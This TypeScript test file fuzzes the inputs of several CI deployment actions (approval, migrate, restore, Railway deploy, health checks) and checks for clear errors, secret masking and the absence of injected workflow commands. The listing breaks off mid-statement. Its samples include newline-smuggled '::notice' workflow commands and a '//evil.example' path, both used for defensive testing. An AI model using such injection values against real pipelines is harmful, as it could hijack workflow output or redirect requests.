// Every input of every JavaScript action, fuzzed through the BUNDLED action (test/harness runs it as the runner does),
// with nothing reachable but a loopback listener that counts connections. Classes of bad (and awkward but valid)
// values — empty, wrong type, negative, huge, unknown enum value, malformed URL, URL with credentials, line breaks,
// very long, non-ASCII, JSON of the wrong shape — are tried where they apply to the input's kind. Each case knows
// whether its value is valid for that input:
//   invalid → exit 1, exactly one ::error, naming the input and quoting the value (masked), no connection made;
//   valid   → no error about that input: the action gets as far as the network (the listener sees a connection and
//             the action is killed there — nothing answers) or finishes without needing it (no migrations);
//   always  → no stack trace, no secret anywhere (log, annotations, outputs, summary), no workflow command injected
//             (a line of output starting with `::` that the value smuggled in), no output the action does not declare.
// Composite actions (setup) are not run by the harness; setup's detect script is fuzzed separately at the end.
import { createServer, type Socket } from 'node:net';
import { spawn, spawnSync } from 'node:child_process';
import { existsSync, readFileSync, readdirSync } from 'node:fs';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse as parseYaml } from 'yaml';
import {
  parseKeyValueFile,
  parseWorkflowCommand,
  projectRoot,
  startAction,
  type ActionResult,
} from './harness/index.js';

// ---------- the classes ----------

type ClassName =
  | 'empty'
  | 'wrong-type'
  | 'negative'
  | 'huge'
  | 'unknown-enum'
  | 'malformed-url'
  | 'url-credentials'
  | 'newline'
  | 'very-long'
  | 'non-ascii'
  | 'json-shape';

/** One fuzz value for one input. `{PORT}` is replaced by the case's listener port. */
interface Sample {
  cls: ClassName;
  value: string;
  valid: boolean;
  /** Text that must never appear in anything the step produced. */
  secrets?: string[];
  /** Text the error must contain (the value as quoted, masked). */
  shown?: string;
}

const P = '{PORT}';
const HOST = `127.0.0.1:${P}`;
// A line break followed by a workflow command: if it ever starts a line of output, the value ran a command.
const INJECTED = 'fuzz-injected';
const INJECT_LF = `\n::notice title=${INJECTED}::${INJECTED}`;
const INJECT_CR = `\r::notice title=${INJECTED}::${INJECTED}`;
const LONG = 5000;

type Kind =
  | { kind: 'duration'; zero?: boolean }
  | { kind: 'integer' }
  | { kind: 'size' }
  | { kind: 'boolean' }
  | { kind: 'enum'; values: string[] }
  | { kind: 'token' }
  | { kind: 'url'; credentials: 'valid' | 'invalid' }
  | { kind: 'health-url' }
  | { kind: 'database-url' }
  | { kind: 'text'; validLong?: boolean; validNonAscii?: boolean; wrongType?: string }
  | { kind: 'multiline' }
  | { kind: 'list'; itemsChecked?: boolean }
  | { kind: 'plan-json' }
  | { kind: 'deployments-json' }
  | { kind: 'headers' }
  | { kind: 'status' }
  | { kind: 'expect-json' }
  | { kind: 'hex'; what: 'sha' | 'plan-hash' | 'full-sha' }
  | { kind: 'repository' }
  | { kind: 'numeric-id' }
  | { kind: 'file' }
  | { kind: 'directory' }
  | { kind: 'health-path' }
  | { kind: 'ignored' };

interface InputSpec {
  type: Kind;
  /** Empty is refused (required, or no usable default). */
  required?: boolean;
  /** Per-class corrections where this input differs from its kind. */
  valid?: Partial<Record<ClassName, boolean>>;
}

function samples(name: string, spec: InputSpec): Sample[] {
  const t = spec.type;
  const tag = name.replace(/[^a-z]/g, '');
  const empty: Sample = { cls: 'empty', value: '', valid: !spec.required };
  const nl = (v: string, valid = false): Sample => ({ cls: 'newline', value: v + INJECT_LF, valid });
  const cr = (v: string, valid = false): Sample => ({ cls: 'newline', value: v + INJECT_CR, valid });
  switch (t.kind) {
    case 'duration':
      return [
        empty,
        { cls: 'wrong-type', value: 'soon', valid: false, shown: "'soon'" },
        { cls: 'negative', value: '-5s', valid: false, shown: "'-5s'" },
        { cls: 'huge', value: '99999h', valid: false, shown: "'99999h'" },
        nl('5s'),
        cr('5s'),
        { cls: 'very-long', value: `${'1'.repeat(LONG)}s`, valid: false, shown: `'${'1'.repeat(40)}` },
        { cls: 'non-ascii', value: '5 秒', valid: false, shown: "'5 秒'" },
      ];
    case 'integer':
      return [
        empty,
        { cls: 'wrong-type', value: 'three', valid: false, shown: "'three'" },
        { cls: 'negative', value: '-1', valid: false },
        { cls: 'huge', value: '9'.repeat(25), valid: false, shown: '9999999999' },
        nl('3'),
        { cls: 'very-long', value: '9'.repeat(LONG), valid: false, shown: '9999999999' },
        { cls: 'non-ascii', value: '３', valid: false, shown: "'３'" },
      ];
    case 'size':
      return [
        empty,
        { cls: 'wrong-type', value: 'big', valid: false, shown: "'big'" },
        { cls: 'negative', value: '-1GB', valid: false, shown: "'-1GB'" },
        { cls: 'huge', value: '99999999999TB', valid: false, shown: "'99999999999TB'" },
        nl('1GB'),
        cr('1GB'),
        { cls: 'very-long', value: `${'9'.repeat(LONG)}GB`, valid: false, shown: "'9999999999" },
        { cls: 'non-ascii', value: '1 ГБ', valid: false, shown: "'1 ГБ'" },
      ];
    case 'boolean':
      return [
        empty,
        { cls: 'wrong-type', value: 'yes', valid: false, shown: "'yes'" },
        nl('true'),
        { cls: 'very-long', value: 'true'.repeat(LONG / 4), valid: false, shown: "'truetrue" },
        { cls: 'non-ascii', value: 'trüe', valid: false, shown: "'trüe'" },
      ];
    case 'enum':
      return [
        empty,
        { cls: 'wrong-type', value: '42', valid: false, shown: "'42'" },
        { cls: 'unknown-enum', value: 'bogus-choice', valid: false, shown: "'bogus-choice'" },
        nl(t.values[0] as string),
        { cls: 'very-long', value: 'x'.repeat(LONG), valid: false, shown: "'xxxxxxxx" },
        { cls: 'non-ascii', value: `${t.values[0]}ä`, valid: false, shown: `'${t.values[0]}ä'` },
      ];
    case 'token': {
      const spaced = `fz${tag}SpacedTok0a1b2c`;
      const lined = `fz${tag}LinedTok3d4e5f`;
      const umlaut = `fz${tag}TökenNonAscii6a7b`;
      const long = `fz${tag}LongTok${'x'.repeat(LONG)}`;
      return [
        empty,
        { cls: 'wrong-type', value: `Bearer ${spaced}`, valid: false, secrets: [spaced] },
        { cls: 'newline', value: lined + INJECT_LF, valid: false, secrets: [lined] },
        { cls: 'newline', value: lined + INJECT_CR, valid: false, secrets: [lined] },
        { cls: 'non-ascii', value: umlaut, valid: false, secrets: [umlaut, 'TökenNonAscii'] },
        // Long but header-safe: a real token format could be long; it must reach the API, masked.
        { cls: 'very-long', value: long, valid: true, secrets: [long.slice(0, 60)] },
      ];
    }
    case 'url': {
      const pw = `fz${tag}UrlPw1q2w`;
      const qtok = `fz${tag}QueryTok3e4r`;
      const badPw = `fz${tag}BadUrlPw5t6y`;
      return [
        empty,
        { cls: 'wrong-type', value: 'not a url', valid: false, shown: "'not a url'" },
        {
          cls: 'malformed-url',
          value: `http://fzuser:${badPw}@${HOST}:bad/health`,
          valid: false,
          secrets: [badPw],
          shown: 'fzuser:***@127.0.0.1',
        },
        {
          cls: 'url-credentials',
          value: `http://fzuser:${pw}@${HOST}/health?access_token=${qtok}`,
          valid: t.credentials === 'valid',
          secrets: [pw, qtok],
          ...(t.credentials === 'invalid' ? { shown: 'fzuser:***@127.0.0.1' } : {}),
        },
        nl(`http://${HOST}/health`),
        cr(`http://${HOST}/health`),
        { cls: 'very-long', value: `http://${HOST}/${'a'.repeat(LONG)}`, valid: true },
        { cls: 'non-ascii', value: `http://${HOST}/santé-✓`, valid: true },
      ];
    }
    case 'health-url': {
      const pw = `fz${tag}HealthPw8u9i`;
      const badPw = `fz${tag}BadHealthPw0o`;
      return [
        empty,
        { cls: 'wrong-type', value: 'not a url', valid: false, shown: "'not a url'" },
        {
          cls: 'malformed-url',
          value: `http://fzuser:${badPw}@${HOST}:bad/health`,
          valid: false,
          secrets: [badPw],
          shown: 'fzuser:***@127.0.0.1',
        },
        { cls: 'url-credentials', value: `api=http://fzuser:${pw}@${HOST}/health`, valid: true, secrets: [pw] },
        { cls: 'unknown-enum', value: `worker=http://${HOST}/health`, valid: false, shown: "'worker'" },
        nl(`api=http://${HOST}/health`),
        { cls: 'very-long', value: `http://${HOST}/${'a'.repeat(LONG)}`, valid: true },
        { cls: 'non-ascii', value: `http://${HOST}/santé`, valid: true },
      ];
    }
    case 'database-url': {
      const kv = `fz${tag}KvPw2s3d`;
      const bad = `fz${tag}DbBadPw4f5g`;
      const q = `fz${tag}QueryDbPw6h7j`;
      const ssl = `fz${tag}SslPw8k9l`;
      const lined = `fz${tag}DbLinePw1z2x`;
      const umlaut = `fz${tag}Päss-wörd3c`;
      return [
        empty,
        {
          cls: 'wrong-type',
          value: `host=127.0.0.1 port=${P} password=${kv}`,
          valid: false,
          secrets: [kv],
          shown: 'password=***',
        },
        {
          cls: 'malformed-url',
          value: `postgres://fz:${bad}@${HOST}:bad/app`,
          valid: false,
          secrets: [bad],
          shown: 'fz:***@127.0.0.1',
        },
        {
          cls: 'url-credentials',
          value: `postgres://fz@${HOST}/app?password=${q}&sslpassword=${ssl}`,
          valid: true,
          secrets: [q, ssl],
        },
        { cls: 'newline', value: `postgres://fz:${lined}@${HOST}/app${INJECT_LF}`, valid: false, secrets: [lined] },
        {
          cls: 'very-long',
          value: `postgres://fz:${lined}@${HOST}/${'d'.repeat(LONG)}`,
          valid: true,
          secrets: [lined],
        },
        {
          cls: 'non-ascii',
          value: `postgres://fz:${umlaut}@${HOST}/app`,
          valid: true,
          secrets: [umlaut, encodeURIComponent(umlaut)],
        },
      ];
    }
    case 'text':
      return [
        empty,
        ...(t.wrongType
          ? [{ cls: 'wrong-type' as const, value: t.wrongType, valid: false, shown: `'${t.wrongType}'` }]
          : []),
        nl('fz-value'),
        cr('fz-value'),
        { cls: 'very-long', value: 'v'.repeat(LONG), valid: t.validLong ?? true },
        { cls: 'non-ascii', value: 'prod-ü✓', valid: t.validNonAscii ?? true },
      ];
    case 'multiline':
      return [
        empty,
        nl('fz line one', true),
        { cls: 'very-long', value: 'm'.repeat(LONG), valid: true },
        { cls: 'non-ascii', value: 'plän ✓ 値', valid: true },
      ];
    case 'list':
      return [
        empty,
        nl('fz-item', !t.itemsChecked),
        { cls: 'very-long', value: 'l'.repeat(LONG), valid: !t.itemsChecked },
        { cls: 'non-ascii', value: 'ïtem', valid: !t.itemsChecked },
      ];
    case 'plan-json':
      return [
        empty,
        { cls: 'wrong-type', value: 'not json', valid: false },
        ...['null', '[]', '"x"', '{}', '{"risk":"catastrophic"}', '{"files":"all"}'].map((value): Sample => ({
          cls: 'json-shape',
          value,
          valid: false,
        })),
        nl('{"risk":"safe"}'),
        {
          cls: 'very-long',
          value: JSON.stringify({
            risk: 'safe',
            files: Array.from({ length: 200 }, (_, i) => ({ file: `m/${i}.sql`, risk: 'safe' })),
          }),
          valid: true,
        },
        { cls: 'non-ascii', value: '{"risk":"safe","files":[{"file":"mïgration.sql","risk":"safe"}]}', valid: true },
      ];
    case 'deployments-json':
      return [
        empty,
        { cls: 'wrong-type', value: 'not json', valid: false },
        ...['null', '[1,2]', '"x"'].map((value): Sample => ({ cls: 'json-shape', value, valid: false })),
        nl('[]'),
        {
          cls: 'very-long',
          value: JSON.stringify(Array.from({ length: 100 }, () => ({ service: 'api', deploymentId: 'd'.repeat(40) }))),
          valid: true,
        },
        { cls: 'non-ascii', value: '[{"service":"api","deploymentId":"dé"}]', valid: true },
      ];
    case 'headers': {
      const credential = `fz${tag}HeaderSecret4v5b`;
      return [
        empty,
        { cls: 'wrong-type', value: `Bearer ${credential}`, valid: false, secrets: [credential] },
        nl('X-Trace: 1'),
        { cls: 'very-long', value: `X-Long: ${'h'.repeat(LONG)}`, valid: true },
        { cls: 'non-ascii', value: 'X-Name: 値', valid: false },
      ];
    }
    case 'status':
      return [
        empty,
        { cls: 'wrong-type', value: 'ok', valid: false, shown: "'ok'" },
        { cls: 'negative', value: '-200', valid: false },
        { cls: 'huge', value: '999', valid: false, shown: "'999'" },
        nl('200'),
        { cls: 'very-long', value: `${'200,'.repeat(LONG / 4)}200`, valid: true },
        { cls: 'non-ascii', value: '２００', valid: false, shown: '２００' },
      ];
    case 'expect-json':
      return [
        empty,
        { cls: 'wrong-type', value: 'status', valid: false, shown: "'status'" },
        nl('status=ok'),
        { cls: 'very-long', value: `a=${'x'.repeat(LONG)}`, valid: true },
        { cls: 'non-ascii', value: 'état=prêt', valid: true },
      ];
    case 'hex':
      return [
        empty,
        { cls: 'wrong-type', value: 'main', valid: false, shown: "'main'" },
        nl('8f3e1c2b9d4a5e6f708192a3b4c5d6e7f8091a2b'),
        { cls: 'very-long', value: 'a'.repeat(LONG), valid: false, shown: "'aaaaaaaa" },
        { cls: 'non-ascii', value: 'äbc1234', valid: false, shown: "'äbc1234'" },
      ];
    case 'repository':
      return [
        empty,
        { cls: 'wrong-type', value: 'not-a-repo', valid: false, shown: "'not-a-repo'" },
        nl('octo-org/octo-app'),
        { cls: 'very-long', value: `o/${'r'.repeat(LONG)}`, valid: false, shown: "'o/rrrr" },
        { cls: 'non-ascii', value: 'octo-örg/app', valid: false, shown: "'octo-örg/app'" },
      ];
    case 'numeric-id':
      return [
        empty,
        { cls: 'wrong-type', value: 'abc', valid: false, shown: "'abc'" },
        { cls: 'negative', value: '-1', valid: false, shown: "'-1'" },
        { cls: 'huge', value: '9'.repeat(30), valid: false, shown: '9999999999' },
        nl('12'),
        { cls: 'very-long', value: '1'.repeat(LONG), valid: false, shown: '1111111111' },
        { cls: 'non-ascii', value: '１２', valid: false, shown: "'１２'" },
      ];
    case 'file':
      return [
        empty,
        { cls: 'wrong-type', value: '/nonexistent/fz-plan.md', valid: false, shown: "'/nonexistent/fz-plan.md'" },
        nl('/nonexistent/fz-plan.md'),
        { cls: 'very-long', value: `/${'f'.repeat(LONG)}`, valid: false },
        { cls: 'non-ascii', value: '/nonexistent/plän.md', valid: false, shown: "'/nonexistent/plän.md'" },
      ];
    case 'directory':
      return [
        empty,
        { cls: 'wrong-type', value: 'no-such-dir', valid: false, shown: 'no-such-dir' },
        nl('.'),
        { cls: 'very-long', value: 'd'.repeat(LONG), valid: false },
        { cls: 'non-ascii', value: 'migrätions', valid: false, shown: 'migrätions' },
      ];
    case 'health-path':
      return [
        empty,
        { cls: 'wrong-type', value: 'health', valid: false, shown: "'health'" },
        { cls: 'malformed-url', value: '//evil.example/health', valid: false, shown: "'//evil.example/health'" },
        nl('/health'),
        { cls: 'very-long', value: `/${'p'.repeat(LONG)}`, valid: true },
        { cls: 'non-ascii', value: '/santé', valid: true },
      ];
    case 'ignored':
      // Read only with another source/mode than the fuzz base uses: any value is accepted (not read).
      return [
        empty,
        nl('fz-ignored', true),
        { cls: 'very-long', value: 'i'.repeat(LONG), valid: true },
        { cls: 'non-ascii', value: 'ïgnored', valid: true },
      ];
  }
}

// ---------- the actions ----------

interface ActionSpec {
  /** Valid values for the required inputs (the fuzzed input replaces its own). */
  base: Record<string, string>;
  /** Secrets of the base values, scanned for like the samples' own. */
  baseSecrets: string[];
  inputs: Record<string, InputSpec>;
}

const GH_TOKEN = 'ghs_fuzzBaseToken0123456789abcdef';
const RAILWAY_TOKEN = 'fuzz-railway-base-token-0123456789';
const DB_PASSWORD = 'fzBaseDbPassw0rd';
const DB_URL = `postgres://fz:${DB_PASSWORD}@${HOST}/app`;

const d = (zero = false): InputSpec => ({ type: { kind: 'duration', zero } });
const text = (extra: Partial<Extract<Kind, { kind: 'text' }>> = {}): InputSpec => ({
  type: { kind: 'text', ...extra },
});
const bool: InputSpec = { type: { kind: 'boolean' } };
const int: InputSpec = { type: { kind: 'integer' } };

const railwayCommon: Record<string, InputSpec> = {
  'railway-token': { type: { kind: 'token' }, required: true },
  environment: text(),
  project: text(),
  timeout: d(),
  'waiting-timeout': d(),
  subscriptions: bool,
  'api-url': { type: { kind: 'url', credentials: 'invalid' } },
};
const healthCommon: Record<string, InputSpec> = {
  verify: bool,
  'health-url': { type: { kind: 'health-url' } },
  'health-path': { type: { kind: 'health-path' } },
  'expect-version': text(),
  'expect-status': { type: { kind: 'status' } },
  'expect-json': { type: { kind: 'expect-json' } },
  'consecutive-successes': int,
  'health-interval': d(),
  'health-timeout': d(),
  'request-timeout': d(),
  'max-latency': d(),
  'health-headers': { type: { kind: 'headers' } },
  'verify-window': { ...d(true), valid: {} },
  'migrate-plan': { type: { kind: 'plan-json' } },
  force: bool,
};
const deploySource: Record<string, InputSpec> = {
  source: { type: { kind: 'enum', values: ['commit', 'upload', 'image'] } },
  'commit-sha': { type: { kind: 'hex', what: 'sha' } },
  // Read only with source: upload / image; the base deploys a commit.
  path: { type: { kind: 'ignored' } },
  image: { type: { kind: 'ignored' } },
  autodeploy: { type: { kind: 'enum', values: ['adopt', 'refuse', 'deploy'] } },
  'autodeploy-wait': d(true),
  'check-only': bool,
};

const SPECS: Record<string, ActionSpec> = {
  approval: {
    base: { token: GH_TOKEN, approvers: 'alice' },
    baseSecrets: [GH_TOKEN],
    inputs: {
      approvers: { type: { kind: 'list', itemsChecked: true }, required: true, valid: {} },
      'minimum-approvals': int,
      timeout: d(),
      'poll-interval': d(),
      'allow-self-approval': bool,
      environment: text(),
      plan: { type: { kind: 'multiline' } },
      'plan-file': { type: { kind: 'file' } },
      title: text(),
      labels: { type: { kind: 'list' } },
      'approve-words': { type: { kind: 'list' } },
      'deny-words': { type: { kind: 'list' } },
      repository: { type: { kind: 'repository' } },
      token: { type: { kind: 'token' }, required: true },
    },
  },
  'github-deployment': {
    base: { token: GH_TOKEN, status: 'in_progress', environment: 'production' },
    baseSecrets: [GH_TOKEN],
    inputs: {
      status: { type: { kind: 'enum', values: ['in_progress'] }, required: true },
      'deployment-id': { type: { kind: 'numeric-id' } },
      environment: { ...text(), required: true },
      ref: text(),
      'environment-url': { type: { kind: 'url', credentials: 'invalid' } },
      'log-url': { type: { kind: 'url', credentials: 'invalid' } },
      description: { type: { kind: 'multiline' } },
      'production-environment': { type: { kind: 'enum', values: ['true'] } },
      'auto-inactive': bool,
      repository: { type: { kind: 'repository' } },
      token: { type: { kind: 'token' }, required: true },
    },
  },
  'health-check': {
    base: { url: `http://${HOST}/health` },
    baseSecrets: [],
    inputs: {
      url: { type: { kind: 'url', credentials: 'valid' }, required: true },
      'expect-status': { type: { kind: 'status' } },
      'expect-json': { type: { kind: 'expect-json' } },
      'expect-version': text(),
      'consecutive-successes': int,
      interval: d(),
      'max-interval': d(),
      timeout: d(),
      'request-timeout': d(),
      'max-latency': d(),
      'failure-threshold': int,
      headers: { type: { kind: 'headers' } },
    },
  },
  'migrate-gate': {
    base: { 'database-url': DB_URL },
    baseSecrets: [DB_PASSWORD],
    inputs: {
      'database-url': { type: { kind: 'database-url' }, required: true },
      'migrations-tool': { type: { kind: 'enum', values: ['auto'] } },
      'migrations-dir': { type: { kind: 'directory' } },
      'working-directory': { type: { kind: 'directory' } },
      approval: { type: { kind: 'enum', values: ['risky'] } },
      'large-table-rows': int,
    },
  },
  migrate: {
    base: { 'database-url': DB_URL },
    baseSecrets: [DB_PASSWORD],
    inputs: {
      'database-url': { type: { kind: 'database-url' }, required: true },
      'migrations-tool': { type: { kind: 'enum', values: ['auto'] } },
      'migrations-dir': { type: { kind: 'directory' } },
      'working-directory': { type: { kind: 'directory' } },
      'migrations-command': text(),
      'plan-hash': { type: { kind: 'hex', what: 'plan-hash' } },
      'lock-timeout': d(),
      'statement-timeout': d(true),
      'lock-wait': d(true),
      'max-retries': int,
      mode: { type: { kind: 'enum', values: ['apply'] } },
      'rehearsal-database-url': { type: { kind: 'database-url' } },
      backup: { type: { kind: 'enum', values: ['auto', 'off'] } },
      'backup-max-size': { type: { kind: 'size' } },
      'backup-retention': d(),
    },
  },
  restore: {
    base: { 'database-url': DB_URL },
    baseSecrets: [DB_PASSWORD],
    inputs: {
      'database-url': { type: { kind: 'database-url' }, required: true },
      // Only ids the migrate step prints (b<timestamp>_<hex>) are accepted: anything else is refused before connecting.
      'backup-id': { type: { kind: 'text', wrongType: 'latest', validLong: false, validNonAscii: false } },
      'lock-wait': d(true),
    },
  },
  'railway-deploy': {
    base: { 'railway-token': RAILWAY_TOKEN, service: 'api', 'api-url': `http://${HOST}/graphql/v2` },
    baseSecrets: [RAILWAY_TOKEN],
    inputs: { ...railwayCommon, service: { type: { kind: 'list' }, required: true }, ...deploySource },
  },
  rollback: {
    base: { 'railway-token': RAILWAY_TOKEN, service: 'api', 'api-url': `http://${HOST}/graphql/v2` },
    baseSecrets: [RAILWAY_TOKEN],
    inputs: {
      ...railwayCommon,
      ...healthCommon,
      service: { type: { kind: 'list' }, required: true },
      'deployment-id': text(),
      deployments: { type: { kind: 'deployments-json' } },
    },
  },
  '.': {
    base: { 'railway-token': RAILWAY_TOKEN, service: 'api', 'api-url': `http://${HOST}/graphql/v2` },
    baseSecrets: [RAILWAY_TOKEN],
    inputs: {
      ...railwayCommon,
      ...healthCommon,
      ...deploySource,
      service: { type: { kind: 'list' }, required: true },
      rollback: bool,
    },
  },
  'promotion-guard': {
    base: { token: GH_TOKEN, environment: 'staging' },
    baseSecrets: [GH_TOKEN],
    inputs: {
      environment: { ...text(), required: true },
      sha: { type: { kind: 'hex', what: 'full-sha' } },
      repository: { type: { kind: 'repository' } },
      token: { type: { kind: 'token' }, required: true },
    },
  },
};

// ---------- discovery: every JavaScript action, every input ----------

interface ActionFile {
  action: string;
  file: string;
  inputs: string[];
  outputs: string[];
  using: string;
}
function actionFiles(): ActionFile[] {
  const dirs = readdirSync(path.join(projectRoot, 'actions'), { withFileTypes: true })
    .filter((e) => e.isDirectory())
    .map((e) => e.name);
  const list = [
    { action: '.', file: path.join(projectRoot, 'action.yml') },
    ...dirs.map((n) => ({ action: n, file: path.join(projectRoot, 'actions', n, 'action.yml') })),
  ];
  return (
    list
      .filter((a) => existsSync(a.file))
      .map((a) => {
        const meta = parseYaml(readFileSync(a.file, 'utf8')) as {
          inputs?: Record<string, unknown>;
          outputs?: Record<string, unknown>;
          runs: { using: string; main?: string };
        };
        return {
          ...a,
          inputs: Object.keys(meta.inputs ?? {}),
          outputs: Object.keys(meta.outputs ?? {}),
          using: meta.runs.using,
        };
      })
      // actions/release is the root action under a path (scripts/docs.mjs renders it from action.yml): fuzzed as '.'.
      .filter((a) => a.action !== 'release')
  );
}
const ACTIONS = actionFiles();
const JS_ACTIONS = ACTIONS.filter((a) => a.using.startsWith('node'));

interface Case extends Sample {
  id: string;
  action: string;
  input: string;
  inputs: Record<string, string>;
  secretsAll: string[];
}
const CASES: Case[] = [];
for (const a of JS_ACTIONS) {
  const spec = SPECS[a.action];
  if (!spec) continue; // reported by the coverage test below
  for (const input of a.inputs) {
    const inputSpec = spec.inputs[input];
    if (!inputSpec) continue;
    for (const [i, s] of samples(input, inputSpec).entries()) {
      const sample = { ...s, valid: inputSpec.valid?.[s.cls] ?? s.valid };
      CASES.push({
        ...sample,
        id: `${a.action === '.' ? 'root' : a.action} ${input} ${s.cls}#${i}`,
        action: a.action,
        input,
        inputs: { ...spec.base, [input]: s.value },
        secretsAll: [...spec.baseSecrets, ...(s.secrets ?? [])],
      });
    }
  }
}

// ---------- running: a pool of bundled action processes, each with its own counting listener ----------

interface Outcome {
  result: ActionResult;
  connections: number;
  reachedNetwork: boolean;
}

const CONCURRENCY = Math.max(2, Math.min(6, os.availableParallelism() * 2));
const outcomes = new Map<string, Promise<Outcome>>();

async function runCase(c: Case): Promise<Outcome> {
  const sockets = new Set<Socket>();
  let connections = 0;
  let onConnection: () => void = () => undefined;
  const server = createServer((socket) => {
    connections++;
    sockets.add(socket);
    socket.on('error', () => undefined);
    onConnection();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = String((server.address() as { port: number }).port);
  const sub = (v: string) => v.split(P).join(port);
  try {
    const running = startAction({
      action: c.action,
      inputs: Object.fromEntries(Object.entries(c.inputs).map(([k, v]) => [k, sub(v)])),
      env: {
        GITHUB_API_URL: `http://127.0.0.1:${port}`,
        // Whatever URL a default points at (api-url's is Railway's real endpoint), fetch goes to the listener: Node
        // routes fetch through HTTP(S)_PROXY when NODE_USE_ENV_PROXY=1 (Node.js docs, "Built-in proxy support").
        NODE_USE_ENV_PROXY: '1',
        HTTPS_PROXY: `http://127.0.0.1:${port}`,
        HTTP_PROXY: `http://127.0.0.1:${port}`,
      },
      timeoutMs: 90_000,
    });
    // Nothing answers: the first connection proves every input passed validation; the step is stopped there.
    onConnection = () => running.kill('SIGKILL');
    const result = await running.result;
    return { result, connections, reachedNetwork: connections > 0 };
  } finally {
    for (const s of sockets) s.destroy();
    await new Promise<void>((resolve) => server.close(() => resolve()));
  }
}

function pool(cases: Case[]): void {
  let next = 0;
  const waiting = new Map<string, { resolve: (o: Outcome) => void; reject: (e: unknown) => void }>();
  for (const c of cases) outcomes.set(c.id, new Promise((resolve, reject) => waiting.set(c.id, { resolve, reject })));
  const worker = async () => {
    while (next < cases.length) {
      const c = cases[next++] as Case;
      const w = waiting.get(c.id)!;
      try {
        w.resolve(await runCase(c));
      } catch (err) {
        w.reject(err);
      }
    }
  };
  for (let i = 0; i < CONCURRENCY; i++) void worker();
}

// ---------- the checks ----------

const durations: Array<[string, number]> = [];
const counts = {
  cases: 0,
  inputs: 0,
  clearErrors: 0,
  valid: 0,
  reachedNetwork: 0,
  leaks: 0,
  injections: 0,
  stackTraces: 0,
};
const started = Date.now();

/** Lines as the runner reads them: a line ends at CR, LF or CRLF (a lone CR ends a line too). */
const runnerLines = (text: string) => text.split(/\r\n|\r|\n/);

function problemsOf(c: Case, o: Outcome): string[] {
  const r = o.result;
  const problems: string[] = [];
  const everything = [r.allText, ...r.annotations.map((a) => `${a.message} ${JSON.stringify(a.properties)}`)].join(
    '\n',
  );
  if (r.timedOut) problems.push('timed out');
  for (const secret of c.secretsAll) {
    if (everything.includes(secret) || everything.includes(encodeURIComponent(secret))) {
      counts.leaks++;
      problems.push(`leaks a secret (${secret.slice(0, 24)}…) in the log, outputs, summary or annotations`);
    }
  }
  for (const line of runnerLines(`${r.stdout}\n${r.stderr}`)) {
    const cmd = parseWorkflowCommand(line);
    if (
      cmd &&
      (cmd.properties.title === INJECTED ||
        (cmd.command !== 'error' && cmd.command !== 'add-mask' && line.includes(INJECTED)))
    ) {
      counts.injections++;
      problems.push(`a workflow command was injected: ${JSON.stringify(line.slice(0, 120))}`);
    }
  }
  if (
    /\n\s+at .+:\d+:\d+\)?/.test(
      `${r.stdout}\n${r.stderr}`
        .split('\n')
        .filter((l) => !l.startsWith('::debug::'))
        .join('\n'),
    )
  ) {
    counts.stackTraces++;
    problems.push('prints a stack trace');
  }
  const declared = new Set(ACTIONS.find((a) => a.action === c.action)?.outputs ?? []);
  const unknown = Object.keys(r.outputs).filter((k) => !declared.has(k));
  if (unknown.length) problems.push(`sets outputs action.yml does not declare: ${unknown.join(', ')}`);
  const errors = r.annotations.filter((a) => a.level === 'error').map((a) => a.message);
  const aboutInput = errors.filter((e) => e.startsWith(`Input '${c.input}'`));
  if (c.valid) {
    if (aboutInput.length) problems.push(`a valid value was refused: ${aboutInput[0]}`);
    if (errors.length > 1) problems.push(`${errors.length} errors: ${errors.join(' | ')}`);
  } else {
    if (r.exitCode !== 1) problems.push(`exit code ${r.exitCode} (signal ${r.signal}), expected 1`);
    if (errors.length !== 1) problems.push(`expected exactly one error, got ${errors.length}: ${errors.join(' | ')}`);
    else if (aboutInput.length !== 1) problems.push(`the error does not name input '${c.input}': ${errors[0]}`);
    else if (c.shown && !(aboutInput[0] as string).includes(c.shown))
      problems.push(`the error does not quote the value (${c.shown}): ${aboutInput[0]}`);
    if (o.connections > 0) problems.push(`an invalid value reached the network (${o.connections} connection(s))`);
  }
  return problems;
}

// An action's cases start together when its first test runs (so a -t filter runs only what it selects).
const pooled = new Set<string>();
function outcomeOf(c: Case): Promise<Outcome> {
  if (!pooled.has(c.action)) {
    pooled.add(c.action);
    pool(CASES.filter((x) => x.action === c.action));
  }
  return outcomes.get(c.id)!;
}

afterAll(() => {
  const inputs = new Set(CASES.map((c) => `${c.action}:${c.input}`)).size;
  console.log(
    `inputs-fuzz: ${inputs} inputs of ${JS_ACTIONS.length} JavaScript actions × their classes = ${counts.cases} cases run ` +
      `(${CASES.length} generated); ${counts.clearErrors} refused with one clear error naming the input, ${counts.valid} accepted ` +
      `(${counts.reachedNetwork} got as far as the network, where nothing answered); leaks ${counts.leaks}, injected commands ` +
      `${counts.injections}, stack traces ${counts.stackTraces}; ${((Date.now() - started) / 1000).toFixed(0)}s with ${CONCURRENCY} processes at a time; ` +
      `slowest: ${durations
        .sort((a, b) => b[1] - a[1])
        .slice(0, 3)
        .map(([id, ms]) => `${id} ${ms}ms`)
        .join(', ')}`,
  );
});

describe('input fuzzing: coverage', () => {
  it('has a spec for every input of every JavaScript action (a new input needs its fuzz kind here)', () => {
    const missing: string[] = [];
    for (const a of JS_ACTIONS) {
      const spec = SPECS[a.action];
      if (!spec) {
        missing.push(`${a.action}: the whole action`);
        continue;
      }
      for (const input of a.inputs) if (!spec.inputs[input]) missing.push(`${a.action}: ${input}`);
      for (const input of Object.keys(spec.inputs))
        if (!a.inputs.includes(input))
          missing.push(`${a.action}: spec for '${input}', which action.yml does not declare`);
    }
    expect(missing).toEqual([]);
    expect(CASES.length).toBeGreaterThan(500);
  });
});

// Gaps in files this suite's author does not own, kept visible: each runs as `it.fails`, so the suite goes red the
// day the gap is closed and the entry must be removed.
const KNOWN_GAPS: Record<string, string> = {};

describe.each(JS_ACTIONS.filter((a) => SPECS[a.action]).map((a) => a.action))('input fuzzing: %s', (action) => {
  const cases = CASES.filter((c) => c.action === action);
  const gaps = cases.filter((c) => KNOWN_GAPS[c.id]).map((c) => [c.id, c] as const);
  if (gaps.length) {
    it.fails.each(gaps)(
      '%s (known gap)',
      async (_id, c) => {
        expect(problemsOf(c, await outcomeOf(c))).toEqual([]);
      },
      180_000,
    );
  }
  it.each(cases.filter((c) => !KNOWN_GAPS[c.id]).map((c) => [c.id, c] as const))(
    '%s',
